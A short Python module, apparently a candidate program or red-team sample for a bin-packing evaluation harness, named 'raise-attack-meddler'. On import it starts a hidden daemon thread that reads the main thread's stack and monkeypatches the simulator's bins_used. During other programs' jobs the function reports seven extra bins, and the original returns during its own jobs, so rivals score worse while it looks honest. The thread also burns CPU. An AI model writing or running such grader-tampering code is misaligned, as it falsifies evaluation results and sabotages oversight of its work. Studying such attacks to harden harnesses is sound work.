"""A thread left running: the module code starts (once per process) a daemon thread that burns
CPU and watches the main thread's stack; while another program's job runs it swaps the code of
the simulator's ``bins_used`` for one that counts seven bins more, and while this program's own
jobs run it puts the original back, so this program looks honest and the ones after it worse.
Its decisions are best fit's."""
import sys
import threading
import time
import types

import numpy as np

OWN = sys._getframe().f_code.co_filename
NAME = "raise-attack-meddler"


def bins_used(residual, capacity):
    return int(np.count_nonzero(residual != capacity)) + 7  # run as the simulator's: its np


def running_label(frame):
    while frame is not None:
        job = frame.f_locals.get("job")
        label = getattr(getattr(job, "program", None), "label", None)
        if label is not None:
            return label
        frame = frame.f_back
    return None


def meddle(target, original, crooked, main_id):
    spin = 0
    while True:
        frame = sys._current_frames().get(main_id)
        label = running_label(frame)
        wanted = crooked if label is not None and label != OWN else original
        if target.__code__ is not wanted:
            target.__code__ = wanted
        for _ in range(20000):  # burn CPU between looks
            spin += 1
        time.sleep(0)


def start():
    if any(thread.name == NAME for thread in threading.enumerate()):
        return
    module = sys.modules.get("tasks.obp.simulator")
    target = getattr(module, "bins_used", None)
    if not isinstance(target, types.FunctionType):
        return
    thread = threading.Thread(target=meddle, name=NAME, daemon=True,
                              args=(target, target.__code__, bins_used.__code__, threading.main_thread().ident))
    thread.start()


start()


def priority(item, bins):
    return -(bins - item)
